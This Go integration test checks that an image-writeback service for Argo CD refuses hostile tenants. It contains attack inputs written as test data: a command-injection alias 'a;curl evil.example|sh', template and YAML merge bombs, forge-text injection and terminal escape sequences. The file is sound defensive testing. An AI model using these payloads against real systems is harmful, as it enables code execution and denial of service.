package tenants

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/liverty-music/image-writeback/test/harness"
)

// marker is a part of every secret that the stories try to read.
const marker = "hunter2"

// story is an Application that wants what is not its own.
type story struct {
	name        string
	namespace   string // empty: team
	repository  string // empty: fleet
	path        string // empty: team/NAME
	images      string // image-list, in which IMAGE is the victim's; empty: app=IMAGE
	annotations map[string]string
	says        string // a piece of the reason; empty: it may go on, and does no harm
}

// key is the name by which the log, the plan and Events call the Application.
func (s story) key() string {
	if s.namespace == "" {
		return "team/" + s.name
	}

	return s.namespace + "/" + s.name
}

// notIts is the reason why a stranger's Application may not write a file of the victim.
const notIts = "is below the source path of an Application of another project (default)"

// stories returns what strangers try. The server is that of the git repositories.
func stories(server string) []story {
	return slices.Concat(placeStories(server), readingStories(), endlessStories(), refusedStories(), ownerStories(),
		textStories())
}

// placeStories try to write where they may not.
func placeStories(server string) []story {
	target := func(name, target, says string) story {
		return story{name: name, says: says, annotations: map[string]string{
			"write-back-target": target, "write-back-delivery": "commit",
		}}
	}

	return []story{
		target("place-prod", "kustomization:/apps/victim/overlays/prod", notIts),
		target("place-gitlab", "helmvalues:/.gitlab-ci.yml", ".gitlab-ci.yml belongs to git or its forge"),
		target("place-workflow", "/.github/workflows/new.yml", ".github/workflows/new.yml belongs to git or its forge"),
		target("place-circleci", "helmvalues:/team/.circleci/config.yml", "says what a CI system runs"),
		target("place-lines", "helmvalues:/team/a\n.yaml", "has a character that is not visible"),
		target("place-script", "helmvalues:/team/build.sh", "does not end in .yaml, .yml or .json"),
		{
			name: "place-repository", says: "project team does not permit the repository",
			annotations: map[string]string{"git-repository": server + "/o/private.git"},
		},
		{ // of the victim's project, which may propose a change of prod, and not commit it
			name: "place-waiver", namespace: "argocd", path: "apps/waiver/overlays/prod",
			annotations: map[string]string{"write-back-delivery": "commit"},
			says:        "of git.delivery in config.yaml enforces pull-request",
		},
	}
}

// secretFiles are what the readers try to see.
var secretFiles = map[string]string{
	"secret/values.yaml":                   "db: {password: '" + marker + " $1', list: [" + marker + "]}\n",
	"secret/broken.yaml":                   marker + ": [" + marker + "\n",
	"secret/" + marker + ".yaml":           "a: 1\n",
	"secret/folder/kustomization.yaml":     "images: " + marker + "\n",
	"secret/listing/" + marker + "/a.yaml": "a: 1\n",
}

// readingStories try to read files by the errors about them.
func readingStories() []story {
	values := func(name, file, key, value, says string) story {
		return story{name: name, says: says, annotations: map[string]string{
			"write-back-target": "helmvalues:/secret/" + file, "app.helm." + key: value,
		}}
	}
	folder := func(name, folder, says string) story {
		return story{name: name, says: says, annotations: map[string]string{
			"write-back-target": "kustomization:/secret/" + folder,
		}}
	}

	return []story{
		values("read-reference", "values.yaml", "image-spec", "db.password", "db.password"),
		values("read-list", "values.yaml", "image-tag", "db.list", "db.list"),
		values("read-broken", "broken.yaml", "image-tag", "db.tag", "secret/broken.yaml"),
		folder("read-missing", "none", "secret/none"),
		folder("read-listing", "listing", "secret/listing"),
		folder("read-parent", "", "secret"),
		folder("read-images", "folder", "secret/folder"),
	}
}

// endlessStories try to keep the service busy.
func endlessStories() []story {
	branch := func(name, template, says string) story {
		return story{name: name, says: says, annotations: map[string]string{"git-branch": "main:" + template}}
	}

	return []story{
		branch("endless-range", "{{range 9223372036854775807}}{{end}}", "the template cannot be used"),
		branch("endless-call", `{{define "a"}}{{template "a"}}{{end}}{{template "a"}}`, "the template cannot be used"),
		branch("endless-width", `{{printf "%999999999d" 1}}`, "the template cannot be used"),
		{
			name: "endless-merge", annotations: map[string]string{"write-back-target": "helmvalues:values.yaml"},
			says: "team/endless-merge/values.yaml",
		},
	}
}

// mergeBomb merges a map into itself, eight times on each level.
const mergeBomb = "image: &a {<<: [*a, *a, *a, *a, *a, *a, *a, *a], tag: 1.0.0}\n"

// refusedStories write what the git server refuses.
func refusedStories() []story {
	return []story{
		{name: "refused-fsck", repository: "strict", says: "the server could not unpack the push"},
		{name: "refused-hook", repository: "strict", says: "team/refused-hook is closed"},
	}
}

// ownerStories want another version in the victim's entry, or the victim's branch.
func ownerStories() []story {
	const dev = "kustomization:/apps/victim/overlays/dev"

	return []story{
		{
			name: "owner-stranger", images: "app=IMAGE:~1.0",
			annotations: map[string]string{"write-back-target": dev}, says: notIts,
		},
		{
			name: "owner-sibling", namespace: "argocd", path: "apps/sibling", images: "app=IMAGE:~1.0",
			annotations: map[string]string{"write-back-target": dev},
			says:        "the entry belongs to Application argocd/victim-dev",
		},
		{
			name: "owner-newcomer", path: "apps/victim/shared", images: "app=IMAGE:~1.0",
			says: "the entry belongs to Application argocd/victim-shared",
		},
		{
			name: "owner-head", annotations: map[string]string{
				"git-branch": "main:image-writeback/argocd/victim-prod", "write-back-delivery": "pull-request",
			},
			says: "the branch image-writeback/argocd/victim-prod belongs to the updater's own pull requests",
		},
		{
			name: "owner-release", annotations: map[string]string{
				"git-branch": "main:release", "write-back-delivery": "pull-request",
			},
			says: "the branch release belongs to Application ",
		},
	}
}

// textStories put words into what others read.
func textStories() []story {
	propose := func(annotations map[string]string) map[string]string {
		annotations["write-back-delivery"] = "pull-request"
		return annotations
	}
	alias := func(name, alias string) story {
		return story{
			name: name, images: alias + "=IMAGE", annotations: propose(map[string]string{}), says: "is not an alias",
		}
	}
	file := func(name, file, says string) story {
		return story{name: name, says: says, annotations: propose(map[string]string{
			"write-back-target": "helmvalues:" + file, "app.helm.image-tag": "tag",
		})}
	}

	return []story{
		alias("alias-closes", "Closes #1"),
		alias("alias-mention", "@org/team"),
		alias("alias-comment", "<!-- image-writeback {} -->"),
		alias("alias-shell", "a;curl evil.example|sh"),
		file("file-lines", "/team/a.yaml\n\nSigned-off-by", "has a character that is not visible"),
		file("file-trailer", "/team/Signed-off-by: Eve <eve@evil.example>.yaml",
			"characters that no manifest's path needs"),
		file("file-words", wordsFile, ""),
		{
			name: "terminal-tags", annotations: map[string]string{"app.allow-tags": "regexp:\x1b]0;owned\x07("},
			says: `\x1b]0;owned`,
		},
		{
			name: "terminal-strategy", annotations: map[string]string{"app.update-strategy": "\x1b[2Jsemver\u202e"},
			says: `\x1b[2Jsemver\u`,
		},
		{name: "labels-source", images: "app=LABELS-1", annotations: propose(map[string]string{})},
		{name: "labels-private", images: "app=LABELS-3", annotations: propose(map[string]string{})},
		{name: "labels-revision", images: "app=LABELS-2", annotations: propose(map[string]string{})},
	}
}

// wordsFile is a file that everybody may have, with words that forges and git read.
const wordsFile = "/team/file-words/Closes #1 @org-team & Signed-off-by Eve.yaml"

// TestStories has strangers try at once to write elsewhere, to read, to keep the service
// busy, to have pushes refused, to stop the owners of entries and branches, and to put
// words into the mouth of the service. In the same cycle, the updates of the victims land,
// and nothing else that matters to anybody does.
func TestStories(t *testing.T) {
	w := newWorld(t)
	all := stories(w.own.git.URL)
	w.stage(all)
	before := w.heads()

	service := harness.Serve(t, harness.ReadFile(t, w.config), "--kubeconfig", w.kubernetes.Kubeconfig,
		"--argocd-namespace", "argocd")
	service.Says("cycle done", 1)
	log := service.Log.String()
	metrics := harness.Get(t, "http://"+service.Health+"/metrics")

	w.checkLanded(before, log)
	w.checkPulls()
	w.checkCommits()
	plans := w.checkOffenders(all, log)
	events := w.checkEvents(all, log)

	said := map[string]string{"log": log, "metrics": metrics, "Events": events}
	for output, text := range plans {
		said["plan "+output] = text
	}
	for _, s := range all {
		owner := strings.HasPrefix(s.name, "owner-") // here it matters what others want
		if owner || strings.HasPrefix(s.name, "read-") || strings.HasPrefix(s.name, "terminal-") {
			got := w.updater("explain", s.key())
			said["explain "+s.name] = got.Stdout + got.Stderr
			if owner && !strings.Contains(got.Stdout, s.says) {
				t.Errorf("explain %s does not say %q:\n%s", s.name, s.says, got.Stdout)
			}
		}
	}
	for _, p := range w.hub.Pulls("o/fleet") {
		said["pull request "+p.Head] = p.Title + p.Body
	}
	for output, text := range said {
		for _, secret := range []string{marker, "s3cret", w.hub.Token(), "\x1b", "\x07", "\u202e"} {
			if i := strings.Index(text, secret); i >= 0 {
				t.Errorf("%s: %q: …%q…", output, secret, text[max(0, i-300):min(len(text), i+100)])
			}
		}
		if text == "" {
			t.Errorf("%s: there is nothing", output)
		}
	}
}

// checkOffenders looks for the reason of each story in the log and the plan. It returns
// what the plan says in each format.
func (w *world) checkOffenders(all []story, log string) map[string]string {
	w.t.Helper()
	reasons := w.reasons()
	for _, s := range all {
		if s.says == "" {
			continue
		}

		named := false
		for line := range strings.Lines(log) {
			line = strings.ReplaceAll(line, `\\`, `\`)
			named = named || strings.Contains(line, s.key()) && strings.Contains(line, s.says)
		}
		if !named {
			w.t.Errorf("%s: the log does not say %q; the plan: %s", s.name, s.says, reasons[s.name])
		}
		// A plan does not push, so it cannot know what a server refuses.
		if s.repository != "strict" && !strings.Contains(reasons[s.name], s.says) {
			w.t.Errorf("%s: the plan says %q, and not %q", s.name, reasons[s.name], s.says)
		}
	}

	formats := map[string]string{}
	for _, format := range []string{"table", "json", "yaml"} {
		got := w.updater("plan", "-o", format)
		formats[format] = got.Stdout + got.Stderr
	}

	return formats
}

// checkEvents waits for an Event about each failure that the log has, and returns all of
// them.
func (w *world) checkEvents(all []story, log string) (text string) {
	w.t.Helper()
	failed := func(s story) bool {
		for line := range strings.Lines(log) {
			if strings.Contains(line, "level=ERROR") && strings.Contains(line, "application="+s.key()+" ") {
				return true
			}
		}
		return false
	}

	var missing string
	there := func() bool {
		events, err := w.kubernetes.Run("kubectl", "get", "events", "-A", "-o",
			`jsonpath={range .items[*]}{.involvedObject.namespace}/{.involvedObject.name} {.message}{"\n"}{end}`)
		if err != nil {
			w.t.Fatal(err)
		}
		text, missing = events, ""
		for _, s := range all {
			if failed(s) && !strings.Contains(events, s.key()+" ") {
				missing += fmt.Sprintf("%s ", s.name)
			}
		}
		return missing == ""
	}
	harness.Await(w.t, "the Events", there)

	return text
}
